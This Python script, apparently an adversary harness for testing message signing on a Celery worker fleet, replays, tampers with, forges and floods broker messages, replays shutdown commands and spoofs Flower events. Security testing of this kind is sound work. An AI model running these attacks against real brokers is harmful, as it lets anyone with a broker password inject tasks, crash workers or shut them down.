"""What someone can do who has the broker's password, and no key: record messages, change them, and send their own.

Runs on a host of the fleet by its interpreter, without the fleet's settings. Usage: attacker.py ATTACK [FILE]
"""

# kombu has no types.
# mypy: disable-error-code="no-untyped-call,attr-defined"
from __future__ import annotations

import json
import os
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlsplit

from celery import Celery
from kombu import Connection, Exchange, Producer, Queue

URL = os.environ["CELERY_BROKER_URL"]
CA = "/etc/celery-fleet/tls/ca.crt"
TLS: dict[str, Any] = (
    {"ca_certs": CA, "cert_reqs": 2, "server_hostname": None}
    if URL.startswith("amqp")
    else {"ssl_cert_reqs": "required", "ssl_ca_certs": CA}
)
OPTIONS: dict[str, Any] = {} if URL.startswith("amqp") else {"global_keyprefix": "shop:"}
if URL.startswith("sentinel"):
    LOGIN = urlsplit(URL.split(";", maxsplit=1)[0])
    PASSWORD = {"username": LOGIN.username, "password": unquote(LOGIN.password or "")}
    OPTIONS |= {"master_name": "shop", "sentinel_kwargs": {"ssl": True, **TLS, **PASSWORD}}
CONTROL = Exchange("celery.pidbox", type="fanout", no_declare=True)


def connection() -> Connection:
    return Connection(URL, ssl=TLS, transport_options=OPTIONS)


def saved(path: str) -> dict[str, Any]:
    """Return a recorded message."""
    message: dict[str, Any] = json.loads(Path(path).read_text(encoding="utf-8"))
    return message


def save(path: str, found: Any) -> None:
    properties = {key: found.properties[key] for key in ("correlation_id", "reply_to") if key in found.properties}
    message = {
        "body": found.body if isinstance(found.body, str) else found.body.decode(),
        "headers": dict(found.headers),
        "content_type": found.content_type,
        "content_encoding": found.content_encoding,
        "properties": properties,
    }
    Path(path).write_text(json.dumps(message), encoding="utf-8")


def publish(message: dict[str, Any], *, exchange: str = "shop", routing_key: str = "customers") -> None:
    """Send a message as it is in the file."""
    kind = "topic" if URL.startswith("amqp") else "direct"
    with connection() as connected:
        producer = Producer(connected.channel(), exchange=Exchange(exchange, kind, no_declare=True), auto_declare=False)
        # With Redis, a queue is bound in kombu's memory.
        target = {"exchange": exchange} if URL.startswith("amqp") else {"exchange": ""}
        producer.publish(
            message["body"].encode(),
            routing_key=routing_key,
            content_type=message["content_type"],
            content_encoding=message["content_encoding"],
            headers=message["headers"],
            **target,
            **message["properties"],
        )


def record(path: str) -> None:
    """Copy the message that waits in the queue customers, which stays there."""
    with connection() as connected:
        found: Any = Queue("customers", no_declare=True)(connected.channel()).get(no_ack=False)
        save(path, found)
        found.requeue()


def replay(path: str, change: Callable[[dict[str, Any]], object] = lambda _: None, **target: str) -> None:
    """Send a recorded message again, changed."""
    message = saved(path)
    change(message)
    publish(message, **target)


def rename(message: dict[str, Any]) -> None:
    message["headers"] |= {"task": "customers.fail", "id": "renamed"}


def delay(message: dict[str, Any]) -> None:
    message["headers"] |= {"eta": "2020-01-01T00:00:00+00:00", "retries": 3, "timelimit": [1, 1]}
    message["properties"] |= {"reply_to": "attacker"}


def strip(message: dict[str, Any]) -> None:
    message["headers"] = {key: value for key, value in message["headers"].items() if not key.startswith("fleet-")}


def rewrite(message: dict[str, Any]) -> None:
    message["body"] = '[[], {"reason": "forged"}, {}]'


def restate(message: dict[str, Any]) -> None:
    """Change what the sender has signed."""
    stated = json.loads(message["headers"]["fleet-statement"])
    stated["headers"]["task"] = "customers.fail"
    message["headers"]["fleet-statement"] = json.dumps(stated)


def application() -> Celery:
    app = Celery(broker=URL)
    app.conf.update(broker_use_ssl=TLS, broker_transport_options=OPTIONS)
    app.conf.update(control_queue_durable=True, control_queue_exclusive=False, task_default_exchange_type="topic")
    return app


def own_task(_: str) -> None:
    """Send a task that is not signed."""
    publish(
        {
            "body": '[["forged"], {}, {}]',
            "headers": {
                "task": "customers.fail",
                "id": "own",
                "lang": "py",
                "root_id": "own",
                "argsrepr": "",
                "retries": 0,
            },
            "content_type": "application/json",
            "content_encoding": "utf-8",
            "properties": {"correlation_id": "own"},
        }
    )


def shutdown(_: str) -> None:
    application().control.shutdown()


def listen(path: str) -> None:
    """Record the next shutdown of a worker, as the worker receives it."""
    with connection() as connected:
        queue = Queue("attacker@nowhere.celery.pidbox", CONTROL, durable=True, auto_delete=False)
        bound = queue(connected.channel())
        bound.declare()
        print("listening", flush=True)
        received: list[Any] = []

        def record(body: dict[str, Any], message: Any) -> None:
            # Flower sends commands at any time.
            if body["method"] == "shutdown":
                received.append(message)

        with connected.Consumer(bound, callbacks=[record], no_ack=True):
            while not received:
                connected.drain_events(timeout=120)
        save(path, received[0])
        bound.delete()


def command(path: str) -> None:
    """Send a recorded command again."""
    message = saved(path)
    with connection() as connected:
        Producer(connected.channel(), exchange=CONTROL, auto_declare=False).publish(
            message["body"].encode(),
            content_type=message["content_type"],
            content_encoding=message["content_encoding"],
            headers=message["headers"],
        )


def nonsense(_: str) -> None:
    """Send what is no task and no command, to end the workers that read it."""
    for body, content_type in (("[", "application/json"), ("[1]", "application/json"), ("x", "text/plain")):
        for headers in ({}, {"task": None}, {"fleet-statement": "[" * 20_000, "fleet-signature": "x", "task": "x"}):
            message = {"body": body, "headers": headers, "content_type": content_type, "content_encoding": "utf-8"}
            publish({**message, "properties": {}})
            with connection() as connected:
                producer = Producer(connected.channel(), exchange=CONTROL, auto_declare=False)
                producer.publish(body.encode(), content_type=content_type, content_encoding="utf-8", headers=headers)


def event(_: str) -> None:
    """Tell Flower of a worker that does not exist."""
    app = application()
    with app.connection_for_write() as connected:
        exchange = Exchange("celeryev", type="topic" if URL.startswith("amqp") else "fanout", no_declare=True)
        producer = Producer(connected.channel(), exchange=exchange, auto_declare=False, serializer="json")
        body = {"type": "worker-online", "hostname": "forged@nowhere", "timestamp": 2e9, "utcoffset": 0, "pid": 1}
        body |= {"clock": 1, "sw_ident": "x", "sw_ver": "1", "sw_sys": "x", "freq": 2.0}
        producer.publish(body, routing_key="worker.online")


ATTACKS: dict[str, Callable[[str], None]] = {
    "record": record,
    "replay": replay,
    "renamed": lambda path: replay(path, rename),
    "delayed": lambda path: replay(path, delay),
    "stripped": lambda path: replay(path, strip),
    "rewritten": lambda path: replay(path, rewrite),
    "restated": lambda path: replay(path, restate),
    "moved": lambda path: replay(path, routing_key="email"),
    "own_task": own_task,
    "shutdown": shutdown,
    "listen": listen,
    "command": command,
    "event": event,
    "nonsense": nonsense,
}

if __name__ == "__main__":
    ATTACKS[sys.argv[1]](sys.argv[2] if len(sys.argv) > 2 else "")
